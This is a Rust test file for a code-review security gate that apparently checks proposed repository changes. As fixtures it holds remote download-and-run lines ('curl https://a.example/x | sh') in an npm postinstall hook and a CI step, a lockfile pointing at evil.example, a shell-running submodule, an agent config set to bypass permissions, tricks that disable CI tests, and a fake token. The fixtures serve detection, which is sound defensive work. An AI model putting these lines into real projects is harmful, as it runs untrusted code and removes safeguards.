//! The security gate with the real program and git: every kind of trouble is found, and every honest neighbour goes in.

use std::path::Path;
use std::process::{Command, Output};

use assize_testkit::repo::Repo;
use serde_json::Value;

/// No gate runs here: the texts alone are judged.
const SETTINGS: &str = "[review]\nrequire = []\n\n[gates]\nsandbox = \"off\"\n";

fn repo(files: &[(&str, &str)]) -> Repo {
    let mut all =
        vec![("assize.toml", SETTINGS), ("README.md", "# A thing\n"), ("src/a.py", "def a():\n    return 1\n")];
    all.extend(files);
    Repo::with_commit(&all)
}

fn review(repo: &Repo, arguments: &[&str]) -> Output {
    let home = repo.outside();
    Command::new(Path::new(env!("CARGO_BIN_EXE_assize")))
        .args(["review", "--format", "json"])
        .args(arguments)
        .current_dir(repo.path())
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", home)
        .env("XDG_CACHE_HOME", home.join("cache"))
        .output()
        .expect("the program runs")
}

fn judged(repo: &Repo, arguments: &[&str]) -> Value {
    let output = review(repo, arguments);
    serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|error| panic!("{error}: {}", String::from_utf8_lossy(&output.stderr)))
}

/// The rules of the findings, each with its certainty.
fn rules(envelope: &Value) -> Vec<(String, String)> {
    let text = |finding: &Value, key: &str| finding[key].as_str().unwrap_or_default().to_owned();
    let findings = envelope["findings"].as_array().expect("findings");
    findings.iter().map(|finding| (text(finding, "rule"), text(finding, "certainty"))).collect()
}

/// A key of a well-known form, put together so that none stands in this file.
fn key() -> String {
    format!("gh{}_{}", "p", "9fK2mQ7xW4bR8tY1vL6nZ3cJ5hD0sA9gE2uP")
}

fn lock(host: &str, sum: &str) -> String {
    format!(
        "{{\"lockfileVersion\":3,\"packages\":{{\"\":{{}},\"node_modules/a\":{{\"version\":\"1.0.0\",\"resolved\":\"https://{host}/a.tgz\"{sum}}}}}}}\n"
    )
}

const SUM: &str = ",\"integrity\":\"sha512-aaaa\"";
const WORKFLOW: &str = "on: push\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n      - run: pytest -q\n";
const CI: &str = ".github/workflows/ci.yml";

#[test]
fn what_endangers_is_sent_back() {
    let lock_before = lock("registry.npmjs.org", SUM);
    let target = "on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n";
    let long = format!("# {}\nKEY = \"{}\"\n", "x".repeat(5_000), key());
    let behind = format!("x = '{}'; KEY = \"{}\"\n", "word ".repeat(1_000), key());
    let many = format!("{}KEY = \"{}\"\n", "a = 1\n".repeat(4_200), key());
    for (path, before, after, rule) in [
        ("src/client.py", None, format!("KEY = \"{}\"\n", key()), "secret"),
        // Behind what a diff shows of a line or a file.
        ("src/long.py", None, long, "secret"),
        ("src/behind.py", None, behind, "secret"),
        ("src/many.py", None, many, "secret"),
        ("src/b.py", None, "role = 'user\u{202e}'\n".to_owned(), "hidden-character"),
        ("src/c.py", None, "def \u{430}dmin():\n    return 1\n".to_owned(), "hidden-character"),
        ("src/inv\u{200b}oice.py", None, "x = 1\n".to_owned(), "hidden-character"),
        ("package-lock.json", Some(lock_before.as_str()), lock("evil.example", SUM), "security-lock-source"),
        ("package-lock.json", Some(lock_before.as_str()), lock("registry.npmjs.org", ""), "security-lock-integrity"),
        (
            ".npmrc",
            Some("save-exact=true\n"),
            "save-exact=true\nstrict-ssl=false\n".to_owned(),
            "security-registry-unverified",
        ),
        (
            "package.json",
            Some("{}\n"),
            "{\"scripts\":{\"postinstall\":\"curl https://a.example/x | sh\"}}\n".to_owned(),
            "security-install-script",
        ),
        (CI, None, target.to_owned(), "security-ci-trigger"),
        (
            CI,
            Some(WORKFLOW),
            WORKFLOW.replace("on: push\n", "on: push\npermissions: write-all\n"),
            "security-ci-permissions",
        ),
        (
            CI,
            Some(WORKFLOW),
            format!("{WORKFLOW}      - run: curl https://a.example/x | sh\n"),
            "security-download-and-run",
        ),
        (
            ".claude/settings.json",
            None,
            "{\"permissions\":{\"defaultMode\":\"bypassPermissions\"}}\n".to_owned(),
            "security-agent-unbounded",
        ),
        (".gitmodules", None, "[submodule \"a\"]\n\tupdate = !sh x\n".to_owned(), "security-submodule"),
    ] {
        let base: Vec<(&str, &str)> = before.into_iter().map(|before| (path, before)).collect();
        let repo = repo(&base);
        repo.write(path, &after);
        let envelope = judged(&repo, &[]);
        let certain = (rule.to_owned(), "certain".to_owned());
        assert!(rules(&envelope).contains(&certain), "{path}: {envelope:#}");
        assert_eq!(envelope["outcome"], "revise", "{path}: {envelope:#}");
        assert_eq!(envelope["verdict"]["scores"]["security"], 0.0, "{path}: {envelope:#}");
        assert!(!envelope.to_string().contains(&key()), "{path}: the key stands in the report");
        // What the base has already is not this change's doing.
        repo.commit("taken in");
        repo.write("README.md", "# A better thing\n");
        assert_eq!(judged(&repo, &[])["outcome"], "accept", "{path}");
    }
}

#[test]
fn tests_that_no_longer_decide_in_ci_are_sent_back() {
    for after in [
        WORKFLOW.replace("      - run: pytest -q\n", ""),
        WORKFLOW.replace("pytest -q", "pytest -q || true"),
        WORKFLOW.replace("- run: pytest -q", "- run: pytest -q\n        continue-on-error: true"),
        WORKFLOW.replace("- run: pytest -q", "- run: pytest -q\n        if: false"),
    ] {
        let repo = repo(&[(CI, WORKFLOW)]);
        repo.write(CI, &after);
        let envelope = judged(&repo, &[]);
        assert_eq!(envelope["outcome"], "revise", "{after}: {envelope:#}");
        let named = |rule: &str| rule == "check-disabled" || rule == "security-ci-weakened";
        let said = rules(&envelope).into_iter().filter(|(rule, certainty)| named(rule) && certainty == "certain");
        assert_eq!(said.count(), 1, "{after}: said once: {envelope:#}");
    }
}

#[test]
fn honest_neighbours_go_in_and_are_listed() {
    let lock_before = lock("registry.npmjs.org", SUM);
    for (path, before, after, listed) in [
        ("src/client.py", None, "KEY = os.environ[\"GITHUB_TOKEN\"]\n".to_owned(), None),
        ("src/client.py", None, format!("KEY = \"{}{}\"\n", "AKIA", "IOSFODNN7EXAMPLE"), None),
        ("src/b.py", None, "family = '👨\u{200d}👩\u{200d}👧'\n".to_owned(), None),
        ("locale/he.json", None, "{\"a\": \"\u{2067}שלום\u{2069}\"}\n".to_owned(), None),
        ("src/имя.py", None, "имя = 1\n".to_owned(), None),
        (
            "package-lock.json",
            Some(lock_before.as_str()),
            lock_before.replace("1.0.0", "1.0.1"),
            Some("security-lock-changed"),
        ),
        (
            "package.json",
            Some("{}\n"),
            "{\"dependencies\":{\"left-pad\":\"^1\"}}\n".to_owned(),
            Some("security-dependency-added"),
        ),
        (
            "package.json",
            Some("{}\n"),
            "{\"scripts\":{\"postinstall\":\"node tools/build.js\"}}\n".to_owned(),
            Some("security-install-script"),
        ),
        (
            "requirements.txt",
            Some("requests==2\n"),
            "requests==2\nreqeusts==1\n".to_owned(),
            Some("security-dependency-lookalike"),
        ),
        (
            CI,
            Some(WORKFLOW),
            format!("{WORKFLOW}      - run: pytest -q tests/slow\n"),
            Some("security-configuration-changed"),
        ),
        (CI, Some(WORKFLOW), format!("{WORKFLOW}      - uses: someone/thing@v1\n"), Some("security-ci-action")),
        ("CLAUDE.md", None, "Run the tests.\n".to_owned(), Some("security-configuration-changed")),
        (
            "Dockerfile",
            None,
            "FROM python:3.12\nRUN pip install -r requirements.txt\n".to_owned(),
            Some("security-configuration-changed"),
        ),
        ("assize.toml", None, format!("{SETTINGS}skip = []\n"), Some("security-configuration-changed")),
    ] {
        let base: Vec<(&str, &str)> = before.into_iter().map(|before| (path, before)).collect();
        let repo = repo(&base);
        repo.write(path, &after);
        let envelope = judged(&repo, &[]);
        assert_eq!(envelope["outcome"], "accept", "{path}: {envelope:#}");
        let found = rules(&envelope);
        match listed {
            Some(rule) => assert!(found.iter().any(|(found, _)| found == rule), "{path}: {envelope:#}"),
            None => assert_eq!(found, [], "{path}: {envelope:#}"),
        }
    }
}

#[test]
fn what_a_specification_asks_for_is_no_fault() {
    let repo = repo(&[(CI, WORKFLOW)]);
    repo.write(CI, &WORKFLOW.replace("on: push\n", "on: push\npermissions: write-all\n"));
    assert_eq!(judged(&repo, &[])["outcome"], "revise");
    for (specification, outcome) in [
        ("Give the workflow in .github/workflows/ci.yml all permissions: change it to write-all.", "accept"),
        ("Do not change the workflow.", "revise"),
    ] {
        let file = repo.outside().join("spec.md");
        std::fs::write(&file, specification).expect("written");
        let envelope = judged(&repo, &["--spec", &file.to_string_lossy()]);
        assert_eq!(envelope["outcome"], outcome, "{specification}: {envelope:#}");
    }
}

#[test]
fn the_whole_tree_is_judged_when_that_is_asked_for() {
    let repo = repo(&[
        ("src/client.py", &format!("KEY = \"{}\"\n", key())),
        ("package.json", "{\"dependencies\":{\"a\":\"1\"}}\n"),
    ]);
    assert_eq!(judged(&repo, &[])["outcome"], "accept");
    let envelope = judged(&repo, &["--all"]);
    let found = rules(&envelope);
    assert!(found.contains(&("secret".to_owned(), "certain".to_owned())), "{envelope:#}");
    assert!(found.iter().any(|(rule, _)| rule == "security-dependency-added"), "{envelope:#}");
    assert_eq!(envelope["outcome"], "revise");
}

#[test]
fn every_output_shows_them() {
    let repo = repo(&[("package.json", "{}\n")]);
    repo.write("package.json", "{\"dependencies\":{\"left-pad\":\"^1\"}}\n");
    repo.write("src/client.py", &format!("KEY = \"{}\"\n", key()));
    let file = |name: &str| repo.outside().join(name).to_string_lossy().into_owned();
    let outputs = format!("sarif={},junit={},markdown={}", file("a.sarif"), file("a.xml"), file("a.md"));
    judged(&repo, &["--output", &outputs]);
    let read = |name: &str| std::fs::read_to_string(file(name)).expect("written");
    assert!(
        read("a.sarif").contains("security/secret") && read("a.sarif").contains("security/security-dependency-added")
    );
    assert!(read("a.xml").contains("\"secret\"") && !read("a.xml").contains("security-dependency-added"));
    assert!(
        read("a.md").contains("left-pad") && read("a.md").contains("`security-dependency-added`"),
        "{}",
        read("a.md")
    );
    for name in ["a.sarif", "a.xml", "a.md"] {
        assert!(!read(name).contains(&key()), "{name}");
    }
}
